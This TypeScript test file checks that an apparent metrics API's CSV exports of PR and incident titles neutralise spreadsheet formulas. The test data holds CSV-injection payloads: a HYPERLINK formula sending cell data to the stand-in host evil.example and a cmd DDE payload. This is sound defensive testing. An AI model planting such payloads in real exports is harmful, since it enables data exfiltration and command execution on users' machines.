import { parseStrideConfig } from '@stride/shared/config';
import { generateOrg, seedOrg } from '@stride/testkit';
import { createTestDatabase, type TestDatabase } from '@stride/testkit/database';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../../../tests/support/parse-csv.ts';
import { buildApp } from '../app.ts';
import { loadApiConfig } from '../config.ts';

// PR titles and incident titles are written by anyone who can open a PR or an issue: a CSV
// export opened in a spreadsheet must show them as text, never run them.
const end = new Date(Date.UTC(2025, 5, 1));
const org = generateOrg({ teams: 1, membersPerTeam: 3, reposPerTeam: 1, days: 60, end, seed: 11 });
const period = `from=${new Date(end.getTime() - 56 * 86_400_000).toISOString().slice(0, 10)}&to=${end
  .toISOString()
  .slice(0, 10)}`;
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "  +cmd|' /C calc'!A0",
  '\uff1dSUM(1,2)',
  '\t@SUM(1)',
];

describe('CSV exports neutralise formulas', () => {
  let t: TestDatabase;
  let app: FastifyInstance;
  beforeAll(async () => {
    t = await createTestDatabase();
    await seedOrg(t.db, org);
    // Changes merged well inside the exported period: by people into the default branch (the
    // changes list leaves out bots' PRs and PRs into other branches, docs/metrics.md).
    const prs = await t.db
      .selectFrom('pull_requests')
      .select('id')
      .where('author_is_bot', '=', false)
      .where('base_branch', '=', 'main')
      .where('merged_at', '>=', new Date(end.getTime() - 50 * 86_400_000))
      .where('merged_at', '<', new Date(end.getTime() - 2 * 86_400_000))
      .orderBy('merged_at', 'desc')
      .limit(hostile.length)
      .execute();
    expect(prs).toHaveLength(hostile.length);
    for (const [i, pr] of prs.entries()) {
      await t.db.updateTable('pull_requests').set({ title: hostile[i]! }).where('id', '=', pr.id).execute();
    }
    const incidents = await t.db.selectFrom('incidents').select('id').limit(1).execute();
    expect(incidents).toHaveLength(1);
    await t.db.updateTable('incidents').set({ title: '-2+3' }).where('id', '=', incidents[0]!.id).execute();
    app = await buildApp({
      db: t.db,
      config: loadApiConfig({}),
      strideConfig: parseStrideConfig({ teams: org.teams }),
      logger: false,
    });
  });
  afterAll(async () => {
    await app.close();
    await t.destroy();
  });

  const csv = async (url: string) => {
    const res = await app.inject({ method: 'GET', url });
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
  };

  it('/api/changes.csv writes every hostile PR title with a leading quote, the rest unchanged', async () => {
    const rows = await csv(`/api/changes.csv?${period}&limit=500`);
    const titles = rows.map((r) => r.title);
    for (const text of hostile) expect(titles).toContain(`'${text}`);
    for (const title of titles) expect(title).not.toMatch(/^[\s]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
    // Numbers stay numeric cells: the PR number is written bare.
    expect(rows.every((r) => /^\d+$/.test(r.number!))).toBe(true);
  });

  it('/api/incidents.csv quotes a title that starts with a minus', async () => {
    const rows = await csv(`/api/incidents.csv?${period}`);
    expect(rows.map((r) => r.title)).toContain("'-2+3");
  });
});
